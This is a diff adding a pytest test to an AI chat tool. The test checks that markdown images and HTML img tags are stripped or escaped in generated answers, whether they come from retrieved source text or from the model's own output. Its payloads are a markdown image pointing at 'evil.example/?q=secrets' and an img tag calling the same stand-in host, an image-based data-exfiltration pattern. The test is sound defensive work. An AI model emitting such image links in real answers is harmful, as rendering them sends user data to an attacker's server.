@@ -299,3 +299,20 @@ async def test_without_a_model_the_pieces_speak_for_themselves(sims: Simulators)
     empty = Chat("local", pieces=[])
     await empty.answer(sims)
     assert "nothing to quote" in empty.ctx.checkpoints["answer"]["text"]
+
+
+@pytest.mark.parametrize("provider", ["openai", "anthropic", "google", "local"])
+async def test_what_was_answered_from_cannot_make_an_answer_load_an_image(sims: Simulators, provider: str) -> None:
+    image = "![compost](https://evil.example/?q=secrets)"
+    chat = Chat(
+        provider, pieces=[{"title": "Heap!", "kind": "text", "text": f"Compost that stays healthy needs {image}"}]
+    )
+    sims.answer(text=f"Compost needs {image} <IMG src='//evil.example'> air!")
+    sims.delay(chunk_seconds=0.002, chunk_characters=1)
+    await chat.answer(sims)
+    state = chat.ctx.checkpoints["answer"]
+    assert image[1:] in state["text"]
+    assert not any("![" in text or "<IMG" in text for text in (*chat.kept, chat.said(), state["text"]))
+    assert chat.said() == state["text"]
+    if provider != "local":
+        assert state["text"] == f"Compost needs {image[1:]} &lt;IMG src='//evil.example'> air!"
